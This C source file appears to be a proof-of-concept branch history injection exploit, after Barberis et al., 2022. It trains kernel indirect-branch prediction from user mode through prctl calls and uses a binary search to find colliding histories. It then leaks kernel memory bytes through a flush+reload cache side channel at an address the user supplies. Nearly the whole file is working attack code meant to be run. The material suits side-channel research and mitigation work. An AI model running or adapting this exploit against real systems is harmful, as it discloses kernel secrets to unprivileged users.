/*
 * Branch history injection (Barberis et al., 2022): the processor does not let user mode train
 * indirect branches of the kernel, but what user mode did is part of the history by which it chooses
 * among targets that the kernel itself has been to. The same call of the kernel goes to one program
 * with a task and to another with the caller's registers. After a history that collides with that of
 * a call with a task, the call with registers is predicted to go to the program for tasks, which
 * takes the caller's RBP for a pointer.
 *
 * Which histories collide is found by trying: many calls with a task under different histories, then
 * calls with registers until one of them shows a byte that is known.
 */
#include "attack.h"

#include <sys/prctl.h>

#include "evict.h"
#include "gadget.h"
#include "secret.h"
#include "train.h"

enum { HISTORIES = 256, TRIES = 512, ROUNDS = 6, PROGRAM_LINE = 0 };

static const uint8_t *array;
static uint64_t trained[HISTORIES], trained_history, history;

/* A system call after a history, with an RBP. */
static void call_after(uint64_t bits, long number, long first, const void *second, uint64_t frame_pointer)
{
	leave_history(bits);
	__asm__ volatile(
		"push %%rbp\n\t"
		"mov %[frame_pointer], %%rbp\n\t"
		"syscall\n\t"
		"pop %%rbp\n\t"
		: "+a"(number)
		: "D"(first), "S"(second), [frame_pointer] "r"(frame_pointer)
		: "rcx", "r11", "memory");
}

/* The kernel calls the program for tasks. */
static void call_with_task(uint64_t bits)
{
	call_after(bits, SYS_prctl, PR_SET_NAME, "task", 0);
}

/* It calls the program for registers; returns what the other one has disclosed. */
static int call_with_registers(uint64_t bits, uint64_t address)
{
	const uint8_t *probe = array + SHARED_PROBE;

	touch(array + SHARED_KNOWN);
	flush_probe(probe);
	/* The address of the program to call is in the first line of a page. */
	evict(PROGRAM_LINE, second_level_pages);
	call_after(bits, SYS_getppid, 0, NULL, address);
	return reload_probe(probe);
}

static void train_histories(int from, int to)
{
	for (int i = from; i < to; i++)
		call_with_task(trained[i]);
}

/* Finds two histories that collide. */
static int find_collision(void)
{
	for (int i = 0; i < HISTORIES; i++)
		trained[i] = next_random();
	train_histories(0, HISTORIES);
	for (int i = 0; i < TRIES; i++) {
		int from = 0, to = HISTORIES;

		history = next_random();
		if (call_with_registers(history, options.known) != KNOWN_BYTE)
			continue;
		/* Halves what it may collide with, until one is left. */
		while (to - from > 1) {
			int middle = (from + to) / 2;

			train_histories(from, middle);
			if (call_with_registers(history, options.known) == KNOWN_BYTE)
				to = middle;
			else
				from = middle;
		}
		trained_history = trained[from];
		call_with_task(trained_history);
		if (call_with_registers(history, options.known) == KNOWN_BYTE)
			return 1;
	}
	return 0;
}

static int sample(int index)
{
	use_secret(index);
	call_with_task(trained_history);
	return call_with_registers(history, options.address + index);
}

int main(int argc, char **argv)
{
	parse_options(argc, argv);
	if (!options.address || !options.known)
		errx(2, "expected --address and --known");
	open_secret();
	array = map_gadget(options.gadget);
	calibrate();
	prepare_eviction();
	for (int i = 0; i < ROUNDS && !find_collision(); i++)
		;
	recover(sample, (struct patience){ .samples = 8, .lead = 2 }, 1);
	return 0;
}
